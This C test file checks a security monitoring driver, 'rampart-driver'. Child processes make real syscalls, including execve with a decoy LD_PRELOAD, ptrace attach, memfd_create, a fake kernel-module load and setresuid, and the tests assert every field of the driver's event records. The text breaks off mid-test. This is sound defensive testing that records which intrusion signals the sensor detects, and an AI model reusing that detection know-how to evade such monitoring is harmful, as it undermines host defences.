/* Driver acceptance tests, as root on this machine's real kernel: for each event type a child
 * makes the syscall and the test asserts every field of the record rampart-driver writes on
 * fd 4. Also: namespaces and cgroup under unshare, a bash reverse shell, the in-kernel
 * filters, the anti-rootkit scan, and the clear failure without BTF. Skipped (with the reason)
 * when not root or without BTF.
 *
 * Children only make syscalls between fork and _exit/exec: the test process has a reader
 * thread, so nothing that may take a lock (malloc, stdio) runs in a child. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <cmocka.h>

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <unistd.h>

#include <openssl/evp.h>

#include "driver_client.h"

#define WAIT_MS 8000

static struct {
    driver_client_t *c;
    char dir[PATH_MAX]; /* scratch directory */
    char logdir[PATH_MAX];
    char self[16]; /* our pid */
    char comm[32]; /* our comm (children inherit it) */
    char nodename[65];
    char pns[24], mntns[24], cgid[24], sessionid[24];
    char sid[16], pgid[16];
    char cgroup2[PATH_MAX]; /* where cgroup v2 is mounted */
} T;

static const char *skip_reason;

/* ---------- helpers ---------- */

static void fmt_u(char *out, size_t n, unsigned long long v)
{
    snprintf(out, n, "%llu", v);
}

static unsigned long long ns_inode(const char *ns)
{
    char p[64];
    struct stat st;
    snprintf(p, sizeof(p), "/proc/self/ns/%s", ns);
    return stat(p, &st) == 0 ? (unsigned long long)st.st_ino : 0;
}

static void find_cgroup2(void)
{
    FILE *f = fopen("/proc/self/mounts", "r");
    char dev[256], mnt[PATH_MAX], type[64];
    T.cgroup2[0] = '\0';
    while (f && fscanf(f, "%255s %4095s %63s %*[^\n]", dev, mnt, type) == 3)
        if (strcmp(type, "cgroup2") == 0) {
            snprintf(T.cgroup2, sizeof(T.cgroup2), "%s", mnt);
            break;
        }
    if (f)
        fclose(f);
}

/* The v2 cgroup id of a cgroup path relative to the cgroup2 mount (= the directory's inode). */
static unsigned long long cgroup_id_of(const char *rel)
{
    char p[PATH_MAX * 2];
    struct stat st;
    snprintf(p, sizeof(p), "%s%s", T.cgroup2, rel);
    return stat(p, &st) == 0 ? (unsigned long long)st.st_ino : 0;
}

static void read_first_line(const char *path, char *out, size_t n)
{
    FILE *f = fopen(path, "r");
    out[0] = '\0';
    if (f) {
        if (fgets(out, (int)n, f))
            out[strcspn(out, "\n")] = '\0';
        fclose(f);
    }
}

static void own_cgroup(char *out, size_t n)
{
    FILE *f = fopen("/proc/self/cgroup", "r");
    char line[PATH_MAX];
    out[0] = '\0';
    while (f && fgets(line, sizeof(line), f))
        if (strncmp(line, "0::", 3) == 0) {
            line[strcspn(line, "\n")] = '\0';
            snprintf(out, n, "%s", line + 3);
        }
    if (f)
        fclose(f);
}

/* Runs fn in a child and waits for it; the child's exit status must be 0. */
static pid_t run_child(void (*fn)(void *), void *arg)
{
    pid_t pid = fork();
    if (pid == 0) {
        fn(arg);
        _exit(0);
    }
    assert_true(pid > 0);
    int st = 0;
    assert_int_equal(waitpid(pid, &st, 0), pid);
    if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
        fail_msg("child failed: status %d", st);
    return pid;
}

static void assert_field(const drec_t *r, const char *key, const char *want)
{
    const char *have = drec_get(r, key);
    if (!have || strcmp(have, want) != 0) {
        drec_dump(r);
        fail_msg("field %s: want '%s', have '%s'", key, want, have ? have : "(absent)");
    }
}

static const drec_t *wait_for(int dt, pid_t pid)
{
    char p[16];
    snprintf(p, sizeof(p), "%d", (int)pid);
    const drec_t *r = driver_client_wait(T.c, dt, WAIT_MS, "tgid", p, NULL);
    if (!r) {
        const drec_t *hb = driver_client_last(T.c, 1001);
        if (hb)
            drec_dump(hb);
        fail_msg("no data_type %d record for pid %d (%llu records read)", dt, (int)pid,
                 (unsigned long long)driver_client_total(T.c));
    }
    return r;
}

/* Every common field of a record from a forked (not exec'd) child of ours. */
static void check_common(const drec_t *r, pid_t pid, const char *exe, const char *comm)
{
    char p[16];
    snprintf(p, sizeof(p), "%d", (int)pid);
    assert_field(r, "uid", "0");
    assert_field(r, "euid", "0");
    assert_field(r, "exe", exe);
    assert_field(r, "pid", p);
    assert_field(r, "tgid", p);
    assert_field(r, "ppid", T.self);
    assert_field(r, "pgid", T.pgid);
    assert_field(r, "sid", T.sid);
    assert_field(r, "comm", comm ? comm : T.comm);
    assert_field(r, "nodename", T.nodename);
    assert_field(r, "sessionid", T.sessionid);
    assert_field(r, "pns", T.pns);
    assert_field(r, "root_pns", T.pns);
    assert_field(r, "mntns", T.mntns);
    assert_field(r, "cgroup_id", T.cgid);
    assert_field(r, "username", "root");
    assert_field(r, "container_id", "-");
    assert_field(r, "container_name", "-");
    const char *tree = drec_get(r, "pid_tree");
    char want[64];
    snprintf(want, sizeof(want), "%d.", (int)pid);
    assert_non_null(tree);
    assert_true(strncmp(tree, want, strlen(want)) == 0);
    snprintf(want, sizeof(want), "<%s.", T.self);
    assert_non_null(strstr(tree, want));
    assert_non_null(drec_get(r, "time_ns"));
    assert_non_null(drec_get(r, "argv"));
    assert_non_null(drec_get(r, "ppid_argv"));
    assert_non_null(drec_get(r, "exe_hash"));
}

static char self_exe[PATH_MAX];

static void sha256_file(const char *path, char hex[65])
{
    unsigned char md[32];
    unsigned int mdlen = 0;
    EVP_MD_CTX *ctx = EVP_MD_CTX_new();
    EVP_DigestInit_ex(ctx, EVP_sha256(), NULL);
    FILE *f = fopen(path, "rb");
    assert_non_null(f);
    unsigned char buf[65536];
    size_t n;
    while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
        EVP_DigestUpdate(ctx, buf, n);
    fclose(f);
    EVP_DigestFinal_ex(ctx, md, &mdlen);
    EVP_MD_CTX_free(ctx);
    for (int i = 0; i < 32; i++)
        snprintf(hex + 2 * i, 3, "%02x", md[i]);
}

/* ---------- setup ---------- */

static int group_setup(void **state)
{
    (void)state;
    skip_reason = driver_client_skip_reason();
    if (skip_reason)
        return 0;
    snprintf(T.logdir, sizeof(T.logdir), "%s/test-logs/driver", RAMPART_BUILD_DIR);
    mkdir(RAMPART_BUILD_DIR "/test-logs", 0755);
    mkdir(T.logdir, 0755);
    snprintf(T.dir, sizeof(T.dir), "/tmp/rampart-driver-test-XXXXXX");
    assert_non_null(mkdtemp(T.dir));
    snprintf(T.self, sizeof(T.self), "%d", (int)getpid());
    read_first_line("/proc/self/comm", T.comm, sizeof(T.comm));
    struct utsname u;
    uname(&u);
    snprintf(T.nodename, sizeof(T.nodename), "%s", u.nodename);
    fmt_u(T.pns, sizeof(T.pns), ns_inode("pid"));
    fmt_u(T.mntns, sizeof(T.mntns), ns_inode("mnt"));
    read_first_line("/proc/self/sessionid", T.sessionid, sizeof(T.sessionid));
    snprintf(T.sid, sizeof(T.sid), "%d", (int)getsid(0));
    snprintf(T.pgid, sizeof(T.pgid), "%d", (int)getpgid(0));
    find_cgroup2();
    char cg[PATH_MAX];
    own_cgroup(cg, sizeof(cg));
    fmt_u(T.cgid, sizeof(T.cgid), cgroup_id_of(cg));
    ssize_t n = readlink("/proc/self/exe", self_exe, sizeof(self_exe) - 1);
    assert_true(n > 0);
    self_exe[n] = '\0';
    char log[PATH_MAX + 32];
    snprintf(log, sizeof(log), "%s/driver.log", T.logdir);
    const char *args[] = {"--events", "all", "--heartbeat-secs", "1", "--rootkit-secs", "2", NULL};
    T.c = driver_client_start(DRIVER_BIN, args, log);
    assert_non_null(T.c);
    return 0;
}

static int group_teardown(void **state)
{
    (void)state;
    if (skip_reason)
        return 0;
    int st = driver_client_stop(T.c);
    assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
    char cmd[PATH_MAX + 16];
    snprintf(cmd, sizeof(cmd), "rm -rf %s", T.dir);
    assert_int_equal(system(cmd), 0);
    return 0;
}

#define SKIP_IF_NEEDED()                                                                           \
    do {                                                                                           \
        if (skip_reason) {                                                                         \
            print_message("%s\n", skip_reason);                                                    \
            skip();                                                                                \
        }                                                                                          \
    } while (0)

/* ---------- execve 59 and exit 60 ---------- */

struct exec_arg {
    int in_fd;
    int out_fd;
    const char *cwd;
    bool big_env;
};

static void child_exec(void *p)
{
    struct exec_arg *a = p;
    if (chdir(a->cwd) < 0 || setsid() < 0)
        _exit(1);
    dup2(a->in_fd, 0);
    dup2(a->out_fd, 1);
    char *argv[] = {"sleep", "1.5", "0", NULL};
    /* the kernel side scans the environment a word at a time: short variables put several
     * NULs in one word and the names at every byte offset; decoys end in the right name */
    static char pad[200];
    memset(pad, 'x', sizeof(pad) - 1);
    memcpy(pad, "PAD=", 4);
    char *envp[] = {"A=1",
                    "B=22",
                    "NOT_LD_PRELOAD=/decoy.so",
                    "LD_PRELOAD=/nonexistent/rampart-preload.so",
                    "C=3",
                    pad,
                    "XSSH_CONNECTION=decoy",
                    "SSH_CONNECTION=10.1.2.3 50022 10.1.2.4 22",
                    "PATH=/usr/bin",
                    NULL};
    if (a->big_env) {
        /* past the kernel side's scan (RS_ENV_SCAN, 8 KiB): the plugin reads
         * /proc/<pid>/environ for the rest */
        static char big[16 * 1024];
        memset(big, 'y', sizeof(big) - 1);
        memcpy(big, "BIG=", 4);
        envp[0] = big;
    }
    execve("/bin/sleep", argv, envp);
    _exit(1);
}

static void test_execve(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    int pfd[2];
    assert_int_equal(pipe(pfd), 0);
    char out_path[PATH_MAX + 16];
    snprintf(out_path, sizeof(out_path), "%s/stdout.txt", T.dir);
    int out = open(out_path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    assert_true(out >= 0);
    struct exec_arg a = {pfd[0], out, T.dir, false};
    pid_t pid = fork();
    if (pid == 0)
        child_exec(&a);
    assert_true(pid > 0);
    const drec_t *r = wait_for(59, pid);
    char p[16], want[256];
    snprintf(p, sizeof(p), "%d", (int)pid);
    assert_field(r, "exe", "/usr/bin/sleep");
    assert_field(r, "argv", "sleep 1.5 0");
    assert_field(r, "pid", p);
    assert_field(r, "tgid", p);
    assert_field(r, "ppid", T.self);
    assert_field(r, "pgid", p);
    assert_field(r, "sid", p);
    assert_field(r, "uid", "0");
    assert_field(r, "comm", "sleep");
    assert_field(r, "nodename", T.nodename);
    assert_field(r, "sessionid", T.sessionid);
    assert_field(r, "pns", T.pns);
    assert_field(r, "root_pns", T.pns);
    assert_field(r, "mntns", T.mntns);
    assert_field(r, "cgroup_id", T.cgid);
    assert_field(r, "run_path", T.dir);
    assert_field(r, "tty", "-");
    struct stat st;
    assert_int_equal(fstat(pfd[0], &st), 0);
    snprintf(want, sizeof(want), "pipe:[%llu]", (unsigned long long)st.st_ino);
    assert_field(r, "stdin", want);
    assert_field(r, "stdout", out_path);
    assert_field(r, "sa_family", "0");
    assert_field(r, "dip", "-");
    assert_field(r, "sip", "-");
    assert_field(r, "ld_preload", "/nonexistent/rampart-preload.so");
    assert_field(r, "ssh", "10.1.2.3 50022 10.1.2.4 22");
    assert_field(r, "env_truncated", "0");
    assert_field(r, "res", "0");
    assert_field(r, "username", "root");
    char hex[65];
    sha256_file("/usr/bin/sleep", hex);
    assert_field(r, "exe_hash", hex);
    snprintf(want, sizeof(want), "%d.sleep<%s.", (int)pid, T.self);
    assert_true(strncmp(drec_get(r, "pid_tree"), want, strlen(want)) == 0);
    assert_field(r, "container_id", "-");
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
    close(pfd[0]);
    close(pfd[1]);
    close(out);
    /* the exit record of the same process: killed by signal 9 */
    r = wait_for(60, pid);
    assert_field(r, "exit_code", "9");
    assert_field(r, "exe", "/usr/bin/sleep");
    assert_field(r, "comm", "sleep");
}

static void child_exit3(void *p)
{
    (void)p;
    _exit(3);
}

/* An environment larger than the kernel side scans, the variables after it: still found. */
static void test_execve_big_env(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    int pfd[2];
    assert_int_equal(pipe(pfd), 0);
    struct exec_arg a = {pfd[0], pfd[1], T.dir, true};
    pid_t pid = fork();
    if (pid == 0)
        child_exec(&a);
    assert_true(pid > 0);
    const drec_t *r = wait_for(59, pid);
    assert_field(r, "exe", "/usr/bin/sleep");
    assert_field(r, "argv", "sleep 1.5 0");
    assert_field(r, "ld_preload", "/nonexistent/rampart-preload.so");
    assert_field(r, "ssh", "10.1.2.3 50022 10.1.2.4 22");
    assert_field(r, "env_truncated", "1");
    kill(pid, SIGKILL);
    waitpid(pid, NULL, 0);
    close(pfd[0]);
    close(pfd[1]);
}

static void test_exit(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    pid_t pid = fork();
    if (pid == 0)
        child_exit3(NULL);
    int st;
    waitpid(pid, &st, 0);
    const drec_t *r = wait_for(60, pid);
    check_common(r, pid, self_exe, NULL);
    assert_field(r, "exit_code", "768"); /* wait status: 3 << 8 */
}

/* ---------- network ---------- */

struct net_arg {
    uint16_t port; /* a listening or closed port */
    int family;
    uint16_t sport; /* out, via a shared page */
};

static struct net_arg *shared_arg(void)
{
    void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    assert_true(p != MAP_FAILED);
    memset(p, 0, 4096);
    return p;
}

static int listener(int family, uint16_t *port)
{
    int s = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    assert_true(s >= 0);
    struct sockaddr_storage ss = {0};
    socklen_t len;
    if (family == AF_INET) {
        struct sockaddr_in *in = (void *)&ss;
        in->sin_family = AF_INET;
        in->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        len = sizeof(*in);
    } else {
        struct sockaddr_in6 *in6 = (void *)&ss;
        in6->sin6_family = AF_INET6;
        in6->sin6_addr = in6addr_loopback;
        len = sizeof(*in6);
    }
    assert_int_equal(bind(s, (void *)&ss, len), 0);
    assert_int_equal(listen(s, 16), 0);
    assert_int_equal(getsockname(s, (void *)&ss, &len), 0);
    *port = ntohs(family == AF_INET ? ((struct sockaddr_in *)&ss)->sin_port
                                    : ((struct sockaddr_in6 *)&ss)->sin6_port);
    return s;
}

static void child_connect(void *p)
{
    struct net_arg *a = p;
    int s = socket(a->family, SOCK_STREAM, 0);
    struct sockaddr_storage ss = {0};
    socklen_t len;
    if (a->family == AF_INET) {
        struct sockaddr_in *in = (void *)&ss;
        in->sin_family = AF_INET;
        in->sin_port = htons(a->port);
        in->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        len = sizeof(*in);
    } else {
        struct sockaddr_in6 *in6 = (void *)&ss;
        in6->sin6_family = AF_INET6;
        in6->sin6_port = htons(a->port);
        in6->sin6_addr = in6addr_loopback;
        len = sizeof(*in6);
    }
    int rc = connect(s, (void *)&ss, len);
    if (rc == 0) {
        getsockname(s, (void *)&ss, &len);
        a->sport = ntohs(a->family == AF_INET ? ((struct sockaddr_in *)&ss)->sin_port
                                              : ((struct sockaddr_in6 *)&ss)->sin6_port);
    }
    close(s);
}

static void test_connect(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    for (int fam = 0; fam < 2; fam++) {
        int family = fam ? AF_INET6 : AF_INET;
        struct net_arg *a = shared_arg();
        int l = listener(family, &a->port);
        a->family = family;
        pid_t pid = run_child(child_connect, a);
        const drec_t *r = wait_for(42, pid);
        check_common(r, pid, self_exe, NULL);
        char port[8], sport[8];
        snprintf(port, sizeof(port), "%u", a->port);
        snprintf(sport, sizeof(sport), "%u", a->sport);
        const char *ip = fam ? "::1" : "127.0.0.1";
        assert_field(r, "sa_family", fam ? "10" : "2");
        assert_field(r, "dip", ip);
        assert_field(r, "dport", port);
        assert_field(r, "sip", ip);
        assert_field(r, "sport", sport);
        assert_field(r, "res", "0");
        close(l);
        munmap(a, 4096);
    }
    /* a closed port: refused */
    struct net_arg *a = shared_arg();
    close(listener(AF_INET, &a->port));
    a->family = AF_INET;
    pid_t pid = run_child(child_connect, a);
    const drec_t *r = wait_for(42, pid);
    char port[8];
    snprintf(port, sizeof(port), "%u", a->port);
    assert_field(r, "dip", "127.0.0.1");
    assert_field(r, "dport", port);
    assert_field(r, "res", "-111");
    munmap(a, 4096);
}

static void child_accept(void *p)
{
    struct net_arg *a = p;
    int l = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t len = sizeof(in);
    if (bind(l, (void *)&in, len) < 0 || listen(l, 4) < 0 || getsockname(l, (void *)&in, &len))
        _exit(1);
    a->port = ntohs(in.sin_port);
    int c = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(c, (void *)&in, len) < 0)
        _exit(1);
    getsockname(c, (void *)&in, &len);
    a->sport = ntohs(in.sin_port);
    int s = accept(l, NULL, NULL);
    if (s != 5)
        _exit(2); /* fds 0-2 and l=3, c=4: the accepted socket must be 5 */
}

static void test_accept(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    struct net_arg *a = shared_arg();
    pid_t pid = fork();
    if (pid == 0) {
        /* make fd numbers predictable: close everything above 2 */
        for (int fd = 3; fd < 1024; fd++)
            close(fd);
        child_accept(a);
        _exit(0);
    }
    int st;
    waitpid(pid, &st, 0);
    assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
    const drec_t *r = wait_for(43, pid);
    check_common(r, pid, self_exe, NULL);
    char port[8], cport[8];
    snprintf(port, sizeof(port), "%u", a->port);
    snprintf(cport, sizeof(cport), "%u", a->sport);
    assert_field(r, "sa_family", "2");
    assert_field(r, "sip", "127.0.0.1");
    assert_field(r, "sport", port);
    assert_field(r, "dip", "127.0.0.1");
    assert_field(r, "dport", cport);
    assert_field(r, "res", "5");
    munmap(a, 4096);
}

static void child_bind(void *p)
{
    struct net_arg *a = p;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in in = {.sin_family = AF_INET,
                             .sin_port = htons(a->port),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (bind(s, (void *)&in, sizeof(in)) < 0)
        _exit(1);
}

static void test_bind(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    struct net_arg *a = shared_arg();
    close(listener(AF_INET, &a->port)); /* a port that was free a moment ago */
    pid_t pid = run_child(child_bind, a);
    const drec_t *r = wait_for(49, pid);
    check_common(r, pid, self_exe, NULL);
    char port[8];
    snprintf(port, sizeof(port), "%u", a->port);
    assert_field(r, "sa_family", "2");
    assert_field(r, "sip", "127.0.0.1");
    assert_field(r, "sport", port);
    assert_field(r, "res", "0");
    munmap(a, 4096);
}

/* A DNS query for rampart-test.example.com type A (sendto) or AAAA (sendmsg, connected). */
static const unsigned char dns_query_a[] = {
    0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 12,   'r',
    'a',  'm',  'p',  'a',  'r',  't',  '-',  't',  'e',  's',  't',  7,    'e',  'x',
    'a',  'm',  'p',  'l',  'e',  3,    'c',  'o',  'm',  0,    0x00, 0x01, 0x00, 0x01};

static void child_dns(void *p)
{
    struct net_arg *a = p;
    unsigned char q[sizeof(dns_query_a)];
    memcpy(q, dns_query_a, sizeof(q));
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in dst = {
        .sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (sendto(s, q, sizeof(q), 0, (void *)&dst, sizeof(dst)) != (ssize_t)sizeof(q))
        _exit(1);
    struct sockaddr_in me;
    socklen_t len = sizeof(me);
    getsockname(s, (void *)&me, &len);
    a->sport = ntohs(me.sin_port);
    /* sendmsg on a connected socket, AAAA, another id */
    int s2 = socket(AF_INET, SOCK_DGRAM, 0);
    if (connect(s2, (void *)&dst, sizeof(dst)) < 0)
        _exit(1);
    q[0] = 0x56;
    q[1] = 0x78;
    q[sizeof(q) - 3] = 28;
    struct iovec iov = {q, sizeof(q)};
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1};
    if (sendmsg(s2, &m, 0) != (ssize_t)sizeof(q))
        _exit(1);
    len = sizeof(me);
    getsockname(s2, (void *)&me, &len);
    a->port = ntohs(me.sin_port);
}

static void test_dns(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    struct net_arg *a = shared_arg();
    pid_t pid = run_child(child_dns, a);
    char p[16], sport[8];
    snprintf(p, sizeof(p), "%d", (int)pid);
    const drec_t *r = driver_client_wait(T.c, 601, WAIT_MS, "tgid", p, "qtype", "1", NULL);
    assert_non_null(r);
    check_common(r, pid, self_exe, NULL);
    snprintf(sport, sizeof(sport), "%u", a->sport);
    assert_field(r, "query", "rampart-test.example.com");
    assert_field(r, "opcode", "0");
    assert_field(r, "rcode", "0");
    assert_field(r, "query_id", "4660");
    assert_field(r, "sa_family", "2");
    assert_field(r, "dip", "127.0.0.1");
    assert_field(r, "dport", "53");
    assert_field(r, "sip", "0.0.0.0"); /* unbound socket: any address */
    assert_field(r, "sport", sport);
    assert_field(r, "res", "42");
    r = driver_client_wait(T.c, 601, WAIT_MS, "tgid", p, "qtype", "28", NULL);
    assert_non_null(r);
    snprintf(sport, sizeof(sport), "%u", a->port);
    assert_field(r, "query", "rampart-test.example.com");
    assert_field(r, "query_id", "22136");
    assert_field(r, "dip", "127.0.0.1");
    assert_field(r, "dport", "53");
    assert_field(r, "sip", "127.0.0.1");
    assert_field(r, "sport", sport);
    munmap(a, 4096);
}

/* ---------- files ---------- */

struct file_arg {
    char dir[PATH_MAX];
    char a[PATH_MAX + 16];
    char b[PATH_MAX + 16];
    char c[PATH_MAX + 16];
};

static void child_create(void *p)
{
    struct file_arg *a = p;
    umask(0);
    int fd = open(a->a, O_CREAT | O_WRONLY | O_EXCL, 0640);   /* created */
    int fd2 = open(a->a, O_CREAT | O_WRONLY, 0600);           /* exists: no record */
    int fd3 = openat(AT_FDCWD, a->b, O_CREAT | O_RDWR, 0604); /* created: the marker */
    if (fd < 0 || fd2 < 0 || fd3 < 0)
        _exit(1);
}

static void fmt_dev(const char *path, char *out, size_t n)
{
    struct stat st;
    assert_int_equal(stat(path, &st), 0);
    snprintf(out, n, "%u:%u", major(st.st_dev), minor(st.st_dev));
}

static void test_create(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    struct file_arg *a = calloc(1, sizeof(*a));
    snprintf(a->a, sizeof(a->a), "%s/created-a", T.dir);
    snprintf(a->b, sizeof(a->b), "%s/created-b", T.dir);
    pid_t pid = run_child(child_create, a);
    char p[16], dev[32], ino[24];
    snprintf(p, sizeof(p), "%d", (int)pid);
    const drec_t *r = driver_client_wait(T.c, 602, WAIT_MS, "tgid", p, "file_path", a->a, NULL);
    assert_non_null(r);
    check_common(r, pid, self_exe, NULL);
    fmt_dev(a->a, dev, sizeof(dev));
    struct stat st;
    stat(a->a, &st);
    fmt_u(ino, sizeof(ino), st.st_ino);
    assert_field(r, "sb_id", dev);
    assert_field(r, "mode", "640");
    assert_field(r, "ino", ino);
    assert_field(r, "sa_family", "0");
    assert_non_null(driver_client_wait(T.c, 602, WAIT_MS, "tgid", p, "file_path", a->b, NULL));
    /* the second open of created-a did not create it: exactly one record for it */
    assert_int_equal(driver_client_count(T.c, 602, "tgid", p, "file_path", a->a, NULL), 1);
    free(a);
}

static void child_rename_link_unlink(void *p)
{
    struct file_arg *a = p;
    if (chdir(a->dir) < 0)
        _exit(1);
    int fd = open("r-old", O_CREAT | O_WRONLY, 0600);
    if (fd < 0)
        _exit(1);
    if (rename("r-old", "./r-new") < 0)
        _exit(2);
    int dfd = open(a->dir, O_DIRECTORY | O_RDONLY);
    if (linkat(dfd, "r-new", AT_FDCWD, a->c, 0) < 0)
        _exit(3);
    if (unlink("r-new") < 0)
        _exit(4);
    if (unlinkat(AT_FDCWD, a->c, 0) < 0)
        _exit(5);
}

static void test_rename_link_unlink(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    struct file_arg *a = calloc(1, sizeof(*a));
    snprintf(a->dir, sizeof(a->dir), "%s", T.dir);
    snprintf(a->c, sizeof(a->c), "%s/l-hard", T.dir);
    char old[PATH_MAX + 16], new[PATH_MAX + 16], dev[32];
    snprintf(old, sizeof(old), "%s/r-old", T.dir);
    snprintf(new, sizeof(new), "%s/r-new", T.dir);
    fmt_dev(T.dir, dev, sizeof(dev));
    pid_t pid = run_child(child_rename_link_unlink, a);
    const drec_t *r = wait_for(82, pid);
    check_common(r, pid, self_exe, NULL);
    assert_field(r, "old_name", old);
    assert_field(r, "new_name", new);
    assert_field(r, "sb_id", dev);
    assert_field(r, "flags", "0");
    r = wait_for(86, pid);
    check_common(r, pid, self_exe, NULL);
    assert_field(r, "old_name", new);
    assert_field(r, "new_name", a->c);
    assert_field(r, "sb_id", dev);
    assert_field(r, "flags", "0");
    char p[16];
    snprintf(p, sizeof(p), "%d", (int)pid);
    r = driver_client_wait(T.c, 605, WAIT_MS, "tgid", p, "file", new, NULL);
    assert_non_null(r);
    check_common(r, pid, self_exe, NULL);
    assert_field(r, "sb_id", dev);
    assert_field(r, "flags", "0");
    assert_non_null(driver_client_wait(T.c, 605, WAIT_MS, "tgid", p, "file", a->c, NULL));
    free(a);
}

static void child_memfd(void *p)
{
    (void)p;
    int fd = (int)syscall(SYS_memfd_create, "rampart-memfd", 1u /* MFD_CLOEXEC */);
    if (fd < 0)
        _exit(1);
    ((int *)p)[0] = fd;
}

static void test_memfd(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    int *fdp = (int *)shared_arg();
    pid_t pid = run_child(child_memfd, fdp);
    const drec_t *r = wait_for(356, pid);
    check_common(r, pid, self_exe, NULL);
    char fd[8];
    snprintf(fd, sizeof(fd), "%d", fdp[0]);
    assert_field(r, "fdname", "rampart-memfd");
    assert_field(r, "flags", "1");
    assert_field(r, "res", fd);
    munmap(fdp, 4096);
}

/* ---------- processes ---------- */

static void child_ptrace(void *p)
{
    int *shared = p;
    pid_t t = fork();
    if (t == 0) {
        for (;;)
            pause();
    }
    shared[0] = t;
    long rc = ptrace(PTRACE_ATTACH, t, NULL, NULL);
    int st;
    waitpid(t, &st, 0);
    kill(t, SIGKILL);
    waitpid(t, &st, 0);
    if (rc != 0)
        _exit(1);
}

static void test_ptrace(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    int *sh = (int *)shared_arg();
    pid_t pid = run_child(child_ptrace, sh);
    const drec_t *r = wait_for(101, pid);
    check_common(r, pid, self_exe, NULL);
    char t[16];
    snprintf(t, sizeof(t), "%d", sh[0]);
    assert_field(r, "ptrace_request", "16");
    assert_field(r, "target_pid", t);
    assert_field(r, "addr", "0x0");
    assert_field(r, "data", "0x0");
    assert_field(r, "res", "0");
    munmap(sh, 4096);
}

static void child_module(void *p)
{
    const char *path = p;
    int fd = open(path, O_RDONLY);
    long rc = syscall(SYS_finit_module, fd, "", 0);
    char img[64] = {0};
    long rc2 = syscall(SYS_init_module, img, sizeof(img), "");
    if (rc == 0 || rc2 == 0)
        _exit(1); /* loading a text file as a module cannot succeed */
}

/* Whether this kernel has the exit tracepoint of a syscall (a kernel without CONFIG_MODULES has
 * no init_module/finit_module: the syscalls return ENOSYS and have no tracepoint). */
static bool has_exit_tracepoint(const char *syscall_name)
{
    char path[256];
    snprintf(path, sizeof(path), "/sys/kernel/tracing/events/syscalls/sys_exit_%s", syscall_name);
    return access(path, F_OK) == 0;
}

static void test_module(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    if (!has_exit_tracepoint("finit_module")) {
        /* nothing can be loaded here, so there is nothing to see: the calls fail with ENOSYS
         * and the plugin says its module programs are unavailable, not failed */
        errno = 0;
        assert_int_equal(syscall(SYS_finit_module, -1, "", 0), -1);
        assert_int_equal(errno, ENOSYS);
        const drec_t *r = driver_client_wait(T.c, 1001, WAIT_MS, "load_failures", "0", NULL);
        assert_non_null(r);
        const char *progs = drec_get(r, "programs");
        assert_non_null(strstr(progs, "rs_x_init_module:unavailable"));
        assert_non_null(strstr(progs, "rs_x_finit_module:unavailable"));
        fprintf(stderr, "test_module: this kernel has no loadable modules (no module syscall "
                        "tracepoints); record fields not checked here\n");
        return;
    }
    static char path[PATH_MAX + 16];
    snprintf(path, sizeof(path), "%s/fake.ko", T.dir);
    FILE *f = fopen(path, "w");
    fputs("not a module\n", f);
    fclose(f);
    char cwd[PATH_MAX];
    assert_non_null(getcwd(cwd, sizeof(cwd)));
    pid_t pid = run_child(child_module, path);
    char p[16];
    snprintf(p, sizeof(p), "%d", (int)pid);
    const drec_t *r =
        driver_client_wait(T.c, 603, WAIT_MS, "tgid", p, "syscall", "finit_module", NULL);
    assert_non_null(r);
    check_common(r, pid, self_exe, NULL);
    assert_field(r, "ko_file", path);
    assert_field(r, "run_path", cwd);
    assert_field(r, "flags", "0");
    const char *res = drec_get(r, "res");
    assert_true(res && atoi(res) < 0);
    r = driver_client_wait(T.c, 603, WAIT_MS, "tgid", p, "syscall", "init_module", NULL);
    assert_non_null(r);
    assert_field(r, "ko_file", "-");
    assert_true(atoi(drec_get(r, "res")) < 0);
}

static void child_priv(void *p)
{
    (void)p;
    if (setresuid(1000, 1000, 0) < 0)
        _exit(1);
    if (setresuid(0, 0, 0) < 0)
        _exit(2);
}

static void test_privilege_change(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    pid_t pid = run_child(child_priv, NULL);
    const drec_t *r = wait_for(604, pid);
    check_common(r, pid, self_exe, NULL);
    assert_field(r, "old_uid", "1000");
    assert_field(r, "old_euid", "1000");
